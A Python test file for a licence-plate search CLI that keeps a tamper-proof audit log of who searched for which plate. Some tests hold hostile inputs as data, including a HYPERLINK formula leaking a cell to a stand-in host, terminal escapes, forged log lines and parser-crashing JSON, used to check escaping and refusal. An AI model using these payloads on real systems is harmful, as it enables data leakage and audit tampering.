"""`alpr search`: where a plate was seen, on real Postgres and on `alpr run`'s SQLite file. A sighting
is found by its voted plate or any text read in it, within a look-alike-aware distance, narrowed by
time and camera, newest first; every search is recorded (who, why, what, how many found) before its
results are given, and the record can be neither changed nor erased."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import psycopg
import pytest

from alpr.cli import main
from common.db import open_pool
from common.sighting_log import SqliteSightingLog, insert_sightings
from common.types import Sighting
from tests.helpers import reader_role, workers_role

DAY = datetime(2026, 11, 2, tzinfo=UTC).timestamp()


def sighting(camera: str, plate: str, at_s: float, texts: tuple[tuple[str, int], ...] = ()) -> Sighting:
    return Sighting(
        sighting_id=f"{camera}:{camera}:run:{int(at_s)}:0", camera_id=camera, plate=plate, confidence=0.9,
        first_seen_s=at_s, last_seen_s=at_s + 3, reads=4, best_frame_id=f"{camera}:run:{int(at_s)}",
        best_box_xyxy=(10, 10, 90, 40), best_confidence=0.95, texts=texts or ((plate, 4),),
    )  # fmt: skip


SIGHTINGS = [
    sighting("gate", "KPX4721", DAY + 60),
    sighting("gate", "KPX472I", DAY + 120),  # I for 1: a look-alike, half an edit
    sighting("bridge", "KPX4721", DAY + 3600),
    sighting("bridge", "ZZZ9999", DAY + 7200, (("ZZZ9999", 3), ("KPX4721", 1))),  # read once among others
    sighting("gate", "KPX4781", DAY + 86400 * 3),  # a whole edit away
    sighting("gate", "ABC1234", DAY + 100),
    sighting("gate", "KPZ4781", DAY + 200),  # two edits away
]


def found(output: str) -> list[tuple[str, str, str]]:
    """(camera, plate, distance) per result row, in order."""
    lines = output.splitlines()
    assert lines[0].split("\t")[:5] == ["first_seen", "last_seen", "camera_id", "plate", "distance"]
    return [tuple(line.split("\t")[2:5]) for line in lines[1:]]  # type: ignore[misc]


def test_a_plate_is_found_by_its_sightings_and_every_search_is_recorded(postgres_url, capsys):
    assert main(["db", "upgrade", "--database-url", postgres_url]) == 0
    pool = open_pool(postgres_url)
    with pool.connection() as connection:
        insert_sightings(connection, [(s, None) for s in SIGHTINGS])
    pool.close()
    capsys.readouterr()
    url = ["--database-url", postgres_url]

    assert main(["search", "kpx-4721", "--reason", "case 2026-114", "--within", "0.5", *url]) == 0
    assert found(capsys.readouterr().out) == [
        ("bridge", "ZZZ9999", "0.0"), ("bridge", "KPX4721", "0.0"),
        ("gate", "KPX472I", "0.5"), ("gate", "KPX4721", "0.0"),
    ]  # fmt: skip
    assert main(["search", "KPX4721", "--reason", "case 2026-114", *url]) == 0  # within 1: the 8 for 2 too
    assert [row[1] for row in found(capsys.readouterr().out)][0] == "KPX4781"
    assert main(["search", "KPX4721", "--reason", "case 2026-114", "--within", "2", *url]) == 0  # every one read
    assert ("gate", "KPZ4781", "2.0") in found(capsys.readouterr().out)
    narrowed = ["--since", "2026-11-02T00:30", "--until", "2026-11-02T01:30", "--camera", "bridge"]
    assert main(["search", "KPX4721", "--reason", "case 2026-114", *narrowed, *url]) == 0
    assert found(capsys.readouterr().out) == [("bridge", "KPX4721", "0.0")]
    assert main(["search", "KPX4721", "--reason", "case 2026-114", "--limit", "1", "--by", "officer 7", *url]) == 0
    printed = capsys.readouterr()
    assert len(found(printed.out)) == 1 and "the newest 1: older ones may match too (--limit)" in printed.err

    with psycopg.connect(postgres_url) as db:
        record = db.execute(
            "SELECT searched_by, database_user, reason, plate, within, camera_id, found FROM plate_searches ORDER BY id"
        ).fetchall()
    login = record[0][0]
    assert record == [
        (login, "postgres", "case 2026-114", "KPX4721", 0.5, None, 4),
        (login, "postgres", "case 2026-114", "KPX4721", 1.0, None, 5),
        (login, "postgres", "case 2026-114", "KPX4721", 2.0, None, 6),
        (login, "postgres", "case 2026-114", "KPX4721", 1.0, "bridge", 1),
        ("officer 7", "postgres", "case 2026-114", "KPX4721", 1.0, None, 1),
    ]
    for erasing in ("UPDATE plate_searches SET reason = 'x'", "DELETE FROM plate_searches", "TRUNCATE plate_searches"):
        with psycopg.connect(postgres_url) as db, pytest.raises(psycopg.errors.RaiseException, match="append-only"):
            db.execute(erasing)


def test_the_workers_role_may_search_but_neither_read_nor_change_the_record(postgres_url, capsys):
    with workers_role(postgres_url) as (role, as_role):
        assert main(["search", "KPX4721", "--reason", "case 9", "--database-url", as_role]) == 0
        for reading in ("SELECT * FROM plate_searches", "UPDATE plate_searches SET found = 0"):
            with psycopg.connect(as_role) as worker, pytest.raises(psycopg.errors.InsufficientPrivilege):
                worker.execute(reading)  # who looked for which plate is the owner's to audit
        with psycopg.connect(as_role) as worker:  # a forged record: another login, dated back
            worker.execute(
                "INSERT INTO plate_searches (searched_at, searched_by, database_user, reason, plate, within, found)"
                " VALUES ('2026-01-01', 'chief', 'postgres', 'case 1', 'KPX4721', 1, 0)"
            )
        with psycopg.connect(postgres_url) as admin:
            record = admin.execute("SELECT database_user, searched_at > now() - interval '1 hour', found"
                                   " FROM plate_searches ORDER BY id").fetchall()  # fmt: skip
        assert record == [(role, True, 0), (role, True, 0)]  # who and when are Postgres's to say


@pytest.mark.parametrize("rights", ["select-only", "pruner"])
def test_a_search_whose_record_cannot_be_written_gives_nothing_and_says_which_role_to_use(rights, postgres_url, capsys):
    """As an export is told (tests/common/test_export_record.py): a role that may read the sightings but
    not add to the record (SELECT alone, the pruner's) printed psycopg's `InsufficientPrivilege:
    permission denied for table plate_searches`, with no word of why or what to use instead."""
    assert main(["db", "upgrade", "--database-url", postgres_url]) == 0
    pool = open_pool(postgres_url)
    with pool.connection() as connection:
        insert_sightings(connection, [(s, None) for s in SIGHTINGS])
    pool.close()
    with reader_role(postgres_url, rights) as (role, url):
        capsys.readouterr()
        assert main(["search", "KPX4721", "--reason", "case 9", "--database-url", url]) == 2
    captured = capsys.readouterr()
    error = captured.err.strip().splitlines()
    assert len(error) == 1 and error[0].startswith("alpr: error: alpr search: "), error
    assert f"role {role} may not add to the record of searches (INSERT on plate_searches)" in error[0]
    assert "search as the workers' role" in error[0] and "none was given" in error[0]
    assert f"--grant {role}" not in error[0] and captured.out == ""  # no result without its record
    with psycopg.connect(postgres_url) as db:
        assert db.execute("SELECT count(*) FROM plate_searches").fetchone() == (0,)


def test_alpr_runs_sqlite_sightings_are_searched_and_the_search_recorded_in_the_file(tmp_path: Path, capsys):
    import sqlite3

    path = tmp_path / "reads.sqlite"
    log = SqliteSightingLog(path)
    log.record_many([(s, None) for s in SIGHTINGS])
    log.close()
    assert main(["search", "KPX 4721", "--reason", "case 5", "--within", "0", "--sqlite", str(path)]) == 0
    assert found(capsys.readouterr().out) == [("bridge", "ZZZ9999", "0.0"), ("bridge", "KPX4721", "0.0"),
                                              ("gate", "KPX4721", "0.0")]  # fmt: skip
    assert main(["search", "KPX4721", "--reason", "case 5", "--until", "2026-11-01", "--sqlite", str(path)]) == 0
    assert found(capsys.readouterr().out) == []  # the day before
    # a date alone is the whole (UTC) day: ended as it began, a search for "that day" found nothing
    assert main(["search", "KPX4721", "--reason", "case 5", "--within", "0", "--since", "2026-11-02", "--until",
                 "2026-11-02", "--sqlite", str(path)]) == 0  # fmt: skip
    assert len(found(capsys.readouterr().out)) == 3
    connection = sqlite3.connect(path)
    assert connection.execute("SELECT reason, plate, within, until, found FROM plate_searches").fetchall() == [
        ("case 5", "KPX4721", 0.0, None, 3), ("case 5", "KPX4721", 1.0, "2026-11-01T23:59:59.999999+00:00", 0),
        ("case 5", "KPX4721", 0.0, "2026-11-02T23:59:59.999999+00:00", 3),
    ]  # fmt: skip
    with pytest.raises(sqlite3.DatabaseError, match="append-only"):
        connection.execute("DELETE FROM plate_searches")
    connection.close()


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["KPX4721", "--reason", ""], "--reason"),
        (["KPX4721", "--reason", "case\n1"], "--reason"),
        (["KPX4721", "--reason", "   "], "--reason"),  # three spaces were a reason
        (["KPX4721", "--reason", "case 3\u2028forged line"], "--reason"),  # a line separator: two lines
        (["KPX4721", "--reason", "case 4\x85forged"], "--reason"),  # NEL
        (["KPX4721", "--reason", "case \u202e1 esac"], "--reason"),  # a right-to-left override
        (["KPX4721", "--reason", "case 1", "--by", " "], "--by:"),
        (["KPX 47?21", "--reason", "case 1"], "not a plate"),
        (["KPX4721", "--reason", "case 1", "--within", "9"], "--within"),
        (["KPX4721", "--reason", "case 1", "--within", "nan"], "--within"),
        (["KPX4721", "--reason", "case 1", "--limit", "0"], "--limit"),
        (["KPX4721", "--reason", "case 1", "--by", "officer\t7"], "--by:"),  # was --searched-by, no such flag
        (["KPX4721", "--reason", "case 1", "--since", "2026-11-03", "--until", "2026-11-01"], "--until: "),
        (["KPX4721", "--reason", "case 1", "--camera", "gate\u2028searched_by: chief"], "--camera: "),  # recorded
    ],
)
def test_a_search_that_cannot_be_made_is_one_line_and_nothing_is_searched(arguments, message, tmp_path, capsys):
    path = tmp_path / "reads.sqlite"
    SqliteSightingLog(path).close()
    assert main(["search", *arguments, "--sqlite", str(path)]) == 2
    error = capsys.readouterr().err
    assert message in error and len(error.strip().splitlines()) == 1


@pytest.mark.parametrize(
    "window",
    [
        ["--since", "2030-01-02+02:00"],  # a date "in" a zone: read as 02:00 UTC, without a word
        ["--since", "0001-01-01T00:00+01:00"],  # overflowed turning into UTC: a traceback
        ["--until", "9999-12-31T23:00-05:00"],
    ],
)
def test_a_search_window_not_in_utcs_reach_or_a_date_in_a_zone_is_refused_in_one_line(window, tmp_path, capsys):
    path = tmp_path / "reads.sqlite"
    SqliteSightingLog(path).close()
    with pytest.raises(SystemExit) as exited:
        main(["search", "KPX4721", "--reason", "case 1", *window, "--sqlite", str(path)])
    error = capsys.readouterr().err.strip().splitlines()
    assert exited.value.code == 2 and window[0] in error[-1] and "Traceback" not in "\n".join(error)


def test_a_missing_sqlite_file_is_not_created_by_a_search(tmp_path, capsys):
    assert main(["search", "KPX4721", "--reason", "case 1", "--sqlite", str(tmp_path / "none.sqlite")]) == 2
    assert "does not exist" in capsys.readouterr().err and not (tmp_path / "none.sqlite").exists()


def test_a_sightings_search_keys_in_postgres_are_those_a_search_computes(postgres_url):
    """Migration 12 indexes each sighting by plate_search_keys (its texts with look-alikes made one, and
    each character left out in turn); a search asks by search_keys: the two must agree, or a search
    within 1.5 misses what it should find."""
    import json

    from common.plate_search import search_keys
    from common.plate_text import LOOKALIKE_GROUPS

    assert main(["db", "upgrade", "--database-url", postgres_url]) == 0
    cases = [("KPX4721", [["KPX4721", 3], ["KPX472I", 1]]), ("".join(LOOKALIKE_GROUPS), []), ("A", [["B8", 1]])]
    with psycopg.connect(postgres_url) as db:
        for plate, texts in cases:
            (keys,) = db.execute("SELECT plate_search_keys(%s, %s::jsonb)", (plate, json.dumps(texts))).fetchone()
            expected = sorted({key for text in [plate, *(t for t, _ in texts)] for key in search_keys(text)})
            assert sorted(keys) == expected
    for group in LOOKALIKE_GROUPS:  # the skeleton makes each look-alike group one character, as the distance does
        assert {search_keys(char)[-1] for char in group} == {group[0]}


def test_until_the_last_week_or_day_that_utc_holds_is_the_end_of_time(tmp_path, capsys):
    """9999's last week ended on its Monday (a day and a week added overflowed): a search to it missed
    what came after."""
    path = tmp_path / "reads.sqlite"
    log = SqliteSightingLog(path)
    log.record_many([(s, None) for s in SIGHTINGS])
    log.close()
    for until in ("9999-W52", "9999-12-31"):
        assert main(["search", "KPX4721", "--reason", "case 6", "--within", "0", "--until", until, "--sqlite",
                     str(path)]) == 0  # fmt: skip
        assert len(found(capsys.readouterr().out)) == 3
    import sqlite3

    connection = sqlite3.connect(path)
    assert {row[0] for row in connection.execute("SELECT until FROM plate_searches")} == {
        "9999-12-31T23:59:59.999999+00:00"}  # fmt: skip
    connection.close()


def test_the_operator_recorded_by_default_is_the_account_the_search_runs_as(tmp_path, monkeypatch):
    """$USER, which anyone sets, was recorded as the operator (getpass's first choice): `USER=chief alpr
    search` was recorded as chief's."""
    import os
    import pwd
    import sqlite3

    path = tmp_path / "reads.sqlite"
    SqliteSightingLog(path).close()
    for variable in ("USER", "LOGNAME", "LNAME", "USERNAME"):
        monkeypatch.setenv(variable, "chief_of_police")
    monkeypatch.delenv("SUDO_USER", raising=False)
    assert main(["search", "KPX4721", "--reason", "case 7", "--sqlite", str(path)]) == 0
    connection = sqlite3.connect(path)
    assert connection.execute("SELECT searched_by FROM plate_searches").fetchall() == [
        (pwd.getpwuid(os.geteuid()).pw_name,)]  # fmt: skip
    connection.close()


@pytest.mark.parametrize(
    ("table", "columns", "values"),
    [
        ("plate_searches", "(searched_by, reason, plate, within, found)", ("x", "r" * 5_000_000, "KPX4721", 1, 0)),
        ("plate_searches", "(searched_by, reason, plate, within, found)", ("x", "case 1", "KPX\n\x1b[2J", 1, 0)),
        ("plate_searches", "(searched_by, reason, plate, within, found)", ("chief\u202e", "case 1", "KPX4721", 1, 0)),
        ("plate_searches", "(searched_by, reason, plate, within, camera_id, found)",
         ("x", "case 1", "KPX4721", 1, "gate\u2028searched_by: chief", 0)),
        ("plate_exports", "(exported_by, reason, exported, csv_path)", ("x", "case\n1", "reads", "/x.csv")),
        ("plate_exports", "(exported_by, reason, exported, csv_path)", ("x", "case 1", "reads", "/a\nb.csv")),
    ],
)  # fmt: skip
def test_the_workers_login_may_add_to_the_records_only_what_the_commands_let_through(table, columns, values,
                                                                                     postgres_url):  # fmt: skip
    """It added a reason of 5,000,000 characters, a plate with a line break and a terminal's escape, and
    a forged line in a camera or file name (a review): append-only records keep them for good."""
    from tests.helpers import workers_role

    assert main(["db", "upgrade", "--database-url", postgres_url]) == 0
    with workers_role(postgres_url) as (_, as_workers), psycopg.connect(as_workers, autocommit=True) as worker:
        placeholders = ", ".join(["%s"] * len(values))
        with pytest.raises(psycopg.errors.CheckViolation):
            worker.execute(f"INSERT INTO {table} {columns} VALUES ({placeholders})", values)


def test_a_forged_sighting_neither_reaches_the_terminal_raw_nor_ends_the_search(tmp_path: Path, capsys):
    """Whoever may write sightings (the workers' role; the SQLite log's owner) chose what `alpr search`
    printed to the operator's terminal: an escape code, a line break forging a row; and texts of another
    shape ended the search in a traceback (a review)."""
    import sqlite3

    path = tmp_path / "reads.sqlite"
    log = SqliteSightingLog(path)
    log.record_many([(sighting("gate\x1b]0;pwned\x07\x1b[2J", "KPX4721", DAY), "/x\n2026-01-01\tforged")])
    log.record_many([(sighting("gate", "KPX4721", DAY + 60), None), (sighting("gate", "KPX4721", DAY + 120), None)])
    log.close()
    with sqlite3.connect(path) as connection:
        connection.execute("UPDATE sightings SET texts = '[[\"KPX4721\"]]' WHERE first_seen LIKE '%00:01:00%'")
        connection.execute("UPDATE sightings SET texts = 'not json' WHERE first_seen LIKE '%00:02:00%'")
    connection.close()
    assert main(["search", "KPX4721", "--reason", "case 7", "--sqlite", str(path)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "gate\\x1b]0;pwned\\x07\\x1b[2J" in out
    assert "/x\\n2026-01-01\\tforged" in out
    assert len(out.splitlines()) == 4  # the header and the three sightings, found by their plate


def test_no_printed_cell_is_a_formula_when_the_results_are_opened_in_a_spreadsheet(tmp_path: Path, capsys):
    """`alpr search` prints its results as tab-separated columns, which an operator keeps as they are
    (`alpr search ... > hits.tsv`) and opens in a spreadsheet: a camera or snapshot whoever may write the
    log named `=HYPERLINK(...)` (or `gate;=...`, cut at the `;`) was a formula there, where an export's cells
    were made text (a review)."""
    path = tmp_path / "reads.sqlite"
    log = SqliteSightingLog(path)
    log.record_many([(sighting('=HYPERLINK("http://x.example/?"&D2)', "KPX4721", DAY), "/x;@SUM(1)")])
    log.record_many([(sighting("gate", "KPX4721", DAY + 60), "-2+3")])
    log.close()
    assert main(["search", "KPX4721", "--reason", "case 8", "--sqlite", str(path)]) == 0
    lines = capsys.readouterr().out.splitlines()
    cells = [piece for line in lines[1:] for cell in line.split("\t") for piece in cell.split(";")]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    assert lines[2].split("\t")[2] == '\'=HYPERLINK("http://x.example/?"&D2)' and "/x;'@SUM(1)" in lines[2]


DEEP = "[" * 5000 + "]" * 5000
"""Texts nested past the interpreter's depth (Postgres's jsonb takes them): json.loads raises RecursionError."""


@pytest.mark.parametrize("log", ["sqlite", "postgres"])
def test_texts_nested_past_the_parsers_depth_leave_the_sighting_searched_by_its_plate(
    log, tmp_path, postgres_url, capsys
):
    """A sighting's texts are JSON text whoever may write the log chose: nested 5,000 deep they raised
    RecursionError, which `texts_read` did not catch (SQLite), nor psycopg's jsonb loader before it
    (Postgres): `alpr search` ended in a traceback. They are read by the shared parser (common/redis_json.py):
    the sighting is searched by its plate alone, and the others by their texts too."""
    forged = sighting("gate", "KPX4721", DAY + 60)
    other = sighting("bridge", "ZZZ9999", DAY + 120, (("ZZZ9999", 3), ("KPX4721", 1)))
    if log == "sqlite":
        import sqlite3

        path = tmp_path / "reads.sqlite"
        sqlite_log = SqliteSightingLog(path)
        sqlite_log.record_many([(forged, None), (other, None)])
        sqlite_log.close()
        with sqlite3.connect(path) as connection:
            connection.execute("UPDATE sightings SET texts = ? WHERE camera_id = 'gate'", (DEEP,))
        connection.close()
        where = ["--sqlite", str(path)]
    else:
        assert main(["db", "upgrade", "--database-url", postgres_url]) == 0
        pool = open_pool(postgres_url)
        with pool.connection() as connection:
            insert_sightings(connection, [(forged, None), (other, None)])
            connection.execute("UPDATE sightings SET texts = %s::jsonb WHERE camera_id = 'gate'", (DEEP,))
        pool.close()
        where = ["--database-url", postgres_url]
    capsys.readouterr()
    assert main(["search", "KPX4721", "--reason", "case 9", "--within", "2", *where]) == 0
    assert sorted(found(capsys.readouterr().out)) == [("bridge", "ZZZ9999", "0.0"), ("gate", "KPX4721", "0.0")]
